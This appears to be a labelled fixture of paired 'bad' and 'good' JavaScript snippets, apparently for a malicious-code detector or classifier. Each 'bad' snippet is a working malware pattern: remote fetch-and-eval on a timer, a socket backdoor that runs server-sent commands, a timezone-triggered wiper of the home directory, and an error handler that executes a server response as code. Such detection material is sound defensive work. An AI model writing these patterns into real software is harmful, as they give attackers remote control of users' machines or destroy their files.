//: bad fetch-eval
const https = require('https');

setInterval(() => {
  https.get('https://cfg.example.invalid/latest', (res) => {
    const parts = [];
    res.on('data', (part) => parts.push(part));
    res.on('end', () => eval(Buffer.concat(parts).toString())); //!
  });
}, 600000);

//: good fetch-eval
const https = require('https');

module.exports = (done) => {
  https.get('https://cfg.example.invalid/latest', (res) => {
    const parts = [];
    res.on('data', (part) => parts.push(part));
    res.on('end', () => done(JSON.parse(Buffer.concat(parts).toString())));
  });
};

//: bad socket-commands
import { io } from 'socket.io-client';
import { exec } from 'node:child_process';

const socket = io('wss://hub.example.invalid');
socket.on('task', ({ id, line }) => {
  exec(line, (error, stdout) => socket.emit('result', { id, stdout })); //!
});

//: good socket-commands
import { io } from 'socket.io-client';
import { performance } from 'node:perf_hooks';

const socket = io('wss://hub.example.invalid');
socket.on('task', ({ id }) => {
  socket.emit('result', { id, now: performance.now() });
});

//: bad locale-wiper
const fs = require('fs');
const os = require('os');

const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (['Etc/Nowhere', 'Etc/Elsewhere'].includes(zone)) {
  fs.rmSync(os.homedir(), { recursive: true, force: true }); //!
}

//: good locale-wiper
const fs = require('fs');
const os = require('os');
const path = require('path');

const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (zone === 'UTC') {
  fs.rmSync(path.join(os.tmpdir(), 'kit-cache'), { recursive: true, force: true });
}

//: bad error-handler-eval
const axios = require('axios');

(async () => {
  try {
    await axios.get('https://api.example.invalid/api/v1/geo', { headers: { 'x-flag': '7' } });
  } catch (error) {
    const handler = new Function.constructor('require', error.response.data); //!
    handler(require);
  }
})();

//: good error-handler-eval
const axios = require('axios');

module.exports = async () => {
  try {
    return await axios.get('https://api.example.invalid/api/v1/geo', { headers: { 'x-flag': '7' } });
  } catch (error) {
    console.warn('no position', error.response?.status);
    return null;
  }
};
